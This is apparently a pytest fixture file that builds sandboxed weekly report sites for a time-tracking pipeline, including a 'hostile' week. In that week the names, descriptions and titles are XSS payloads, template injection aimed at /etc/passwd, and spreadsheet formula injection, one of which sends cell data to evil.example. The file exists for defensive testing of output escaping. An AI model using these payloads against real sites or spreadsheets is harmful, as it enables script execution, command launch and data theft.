"""Weeks whose pages the browser opens: usual ones, and those that people and services have spoilt. Not here: assertions.

Each is a run of the whole graph on a sandbox, once for all tests, that are to read only.
"""

from collections.abc import Callable
from dataclasses import replace
from datetime import date
from functools import cached_property
from itertools import cycle
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from tests.weeks import failures, fast_settings, graph, run_week
from volt_assets.sandbox.server import Sandbox
from volt_assets.sandbox.world import World
from volt_assets.settings import TOGGL_WEB

USUAL_WEEKS = ("2025-10-13", "2025-10-20", "2025-10-27")
EMPTY_WEEK = "2025-01-06"
OUTSIDE = "evil.example"
PWNED = "window.__pwned=1"
LONG_TITLE = ("Reconcile the quarterly export of " * 200)[:5000]
NAMES = (
    f"<script>{PWNED}</script>",
    f"</title></style></svg><img src=x onerror={PWNED}>",
    "ليلى حسن الأنصاري",
    "נועה בן־דוד",
    "山田花子",
    "김민준",
    "आराध्या शर्मा",
    "ณัฐวุฒิ ศรีสุข",
    "Ẓ̌a̋l͊g̃o̽ Q̊ú̈i̋n̊n̆",
    '=HYPERLINK("https://evil.example","total")',
    "👩‍🚀 \u202eesrever\u202c | [x](javascript:window.__pwned=1)",
)
TEXTS = (
    f"<script>{PWNED}</script><img src=x onerror={PWNED}>",
    f'"><svg onload={PWNED}><style>*{{display:none}}</style>',
    f"[click](javascript:{PWNED}) [data](data:text/html,<script>{PWNED}</script>)",
    f"![seen](https://{OUTSIDE}/pixel.png) <https://{OUTSIDE}/auto> www.{OUTSIDE}",
    f"<iframe src=https://{OUTSIDE}></iframe><object data=https://{OUTSIDE}></object><base href=https://{OUTSIDE}/>",
    f'<meta http-equiv="refresh" content="0;url=https://{OUTSIDE}"><link rel=stylesheet href=https://{OUTSIDE}/a.css>',
    f"' onmouseover='{PWNED}' style='background:url(https://{OUTSIDE}/b.png)'",
    f"]]></text></svg><form action=https://{OUTSIDE}><input name=a autofocus onfocus={PWNED}>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %} {f:t1} &lt;b&gt; &#x3c;i&#x3e;",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Total")',
    "# Heading\n\n> quote\n\n| a | b |\n| --- | --- |\n\n---\n```\nfence",
    f"{'unbroken' * 60}",
    "\u202egnola daer\u202c \u200bzero\ufeff width",
)


class Site(NamedTuple):
    """The pages of a week, in a store, and the hosts that the configuration lets them lead to."""

    name: str
    data: Path
    week: str
    hosts: frozenset[str]

    @property
    def url(self) -> str:
        """Where everything of the store is below, for a browser."""
        return self.data.as_uri()

    @property
    def folder(self) -> Path:
        """Where the week's reports are."""
        return self.data / "weeks" / self.week / "reports"

    @property
    def pages(self) -> list[Path]:
        """All pages of the week, and the list of all weeks."""
        return [*sorted((self.folder / "html").glob("*.html")), self.data / "weeks" / "index.html"]

    def page(self, name: str) -> Path:
        """A page by its name without ending."""
        return self.folder / "html" / f"{name}.html"


class Sites:
    """The weeks, each made when it is first asked for."""

    def __init__(self, world: World, make: Callable[[], Path]) -> None:
        self._world, self._make = world, make

    @cached_property
    def usual(self) -> Site:
        """Three weeks of a usual team, the last of which has one of everything that people get wrong."""
        return self._made("usual", USUAL_WEEKS, self._world)

    @cached_property
    def hostile(self) -> Site:
        """A week in which names, projects, descriptions and titles try to be more than text, or are in any script or endless."""
        return self._made("hostile", USUAL_WEEKS[-1:], hostile_world(self._world), spoil=_with_hostile_titles)

    @cached_property
    def alone(self) -> Site:
        """A week of one person."""
        first = self._world.people[0].user_id
        only = replace(self._world, entries=tuple(one for one in self._world.entries if one.user_id == first))
        return self._made("alone", USUAL_WEEKS[-1:], only)

    @cached_property
    def empty(self) -> Site:
        """A week without any time."""
        return self._made("empty", (EMPTY_WEEK,), self._world)

    def named(self, name: str) -> Site:
        """One of the above."""
        site = getattr(self, name)
        assert isinstance(site, Site)
        return site

    def _made(self, name: str, weeks: tuple[str, ...], world: World, *, spoil: Callable[[Sandbox], None] = lambda _: None) -> Site:
        home = self._make()
        with pytest.MonkeyPatch.context() as environment, Sandbox(world) as server:
            spoil(server)
            places = {"VOLT_DATA": str(home / "data"), "DAGSTER_HOME": str(home)}
            for variable, value in {**server.environment, **places}.items():
                environment.setenv(variable, value)
            settings = fast_settings(toggl={"web_url": TOGGL_WEB})
            for week in weeks:
                assert failures(run_week(week, definitions=graph(settings))) == {}
        return Site(name, home / "data", weeks[-1], frozenset(host.split("/")[0] for host in settings.link_hosts))


def hostile_world(world: World) -> World:
    """The world with hostile names of people and projects, and with such descriptions where an entry names no entity in full."""
    texts = cycle(TEXTS)
    people = tuple(replace(one, name=name) for one, name in zip(world.people, NAMES, strict=True))
    projects = tuple(replace(one, name=f"{next(texts)} {one.project_id}"[:250]) for one in world.projects)
    spoilt = {
        one.entry_id: next(texts)
        for one in world.entries_of_week(date.fromisoformat(USUAL_WEEKS[-1]))
        if "[" not in (one.description or "")
    }
    entries = tuple(replace(one, description=spoilt.get(one.entry_id, one.description)) for one in world.entries)
    return replace(world, people=people, projects=projects, entries=entries)


def _with_hostile_titles(server: Sandbox) -> None:
    """Another title for each item of Fibery: one of 5,000 signs first, then the texts in turn."""
    titles: Any = (LONG_TITLE, *TEXTS)
    for item, title in zip(server.world.items, cycle(titles), strict=False):
        server.fibery.rename_entity(item.database, item.public_id, title)
